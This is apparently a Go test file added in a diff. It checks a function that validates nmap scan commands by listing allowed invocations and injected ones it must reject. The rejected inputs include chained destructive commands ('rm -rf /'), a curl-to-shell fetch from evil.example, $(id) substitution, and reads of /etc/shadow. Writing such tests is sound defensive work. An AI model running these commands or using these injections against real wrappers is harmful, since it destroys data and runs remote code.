@@ -0,0 +1,76 @@
+package main
+
+import (
+	"runtime"
+	"testing"
+)
+
+func TestSanitiseScanCommand(t *testing.T) {
+	tests := []struct {
+		command string
+		goos    string
+		ok      bool
+	}{
+		{"nmap -sT -p 1-1024 -T4", "linux", true},
+		{"  sudo nmap -sS --top-ports 100  ", "linux", true},
+		{"/usr/local/bin/nmap -sV --script=http-title,ssl-cert", "linux", true},
+		{"nmap -oX - -sT", "linux", true},
+		{`C:\Nmap\nmap.exe -sT`, "windows", true},
+
+		// Command chaining and substitution
+		{"nmap -sT; rm -rf /", "linux", false},
+		{"nmap -sT && curl http://evil.example | sh", "linux", false},
+		{"nmap -sT || true", "linux", false},
+		{"nmap -sT $(id)", "linux", false},
+		{"nmap -sT `id`", "linux", false},
+		{"nmap -sT ${HOME}", "linux", false},
+		{"nmap -sT & disown", "windows", false},
+		// Redirection, subshells and globbing brackets
+		{"nmap -sT > /etc/passwd", "linux", false},
+		{"nmap -iL < /etc/shadow", "linux", false},
+		{"nmap -sT (sleep 10)", "linux", false},
+		{"nmap -p [1-1024]", "linux", false},
+		// A second command on a new line
+		{"nmap -sT\nrm -rf /", "linux", false},
+		// Backslash escapes outside Windows
+		{`nmap -sT \$(id)`, "linux", false},
+		{`C:\Nmap\nmap.exe -sT`, "linux", false},
+		{`C:\Nmap\nmap.exe -sT | more`, "windows", false},
+	}
+	for _, tt := range tests {
+		got, err := sanitiseScanCommand(tt.command, tt.goos)
+		if (err == nil) != tt.ok {
+			t.Errorf("%q on %s: error %v, want allowed %v", tt.command, tt.goos, err, tt.ok)
+		}
+		if err == nil && (got == "" || got[0] == ' ' || got[len(got)-1] == ' ') {
+			t.Errorf("%q on %s: returned %q, want the trimmed command", tt.command, tt.goos, got)
+		}
+	}
+}
+
+func TestValidateNmapCommand(t *testing.T) {
+	tests := []struct {
+		command string
+		ok      bool
+	}{
+		{"nmap -sT", true},
+		{"sudo nmap -sS", true},
+		{"/opt/nmap/bin/NMAP -sT", true},
+		{"", false},
+		{"sudo", false},
+		{"masscan -p1-65535", false},
+		{"sudo bash -c nmap", false},
+		{"nmap -sT; id", false},
+	}
+	if runtime.GOOS == "windows" {
+		tests = append(tests, struct {
+			command string
+			ok      bool
+		}{`C:\Nmap\nmap.exe -sT`, true})
+	}
+	for _, tt := range tests {
+		if err := ValidateNmapCommand(tt.command); (err == nil) != tt.ok {
+			t.Errorf("ValidateNmapCommand(%q) = %v, want allowed %v", tt.command, err, tt.ok)
+		}
+	}
+}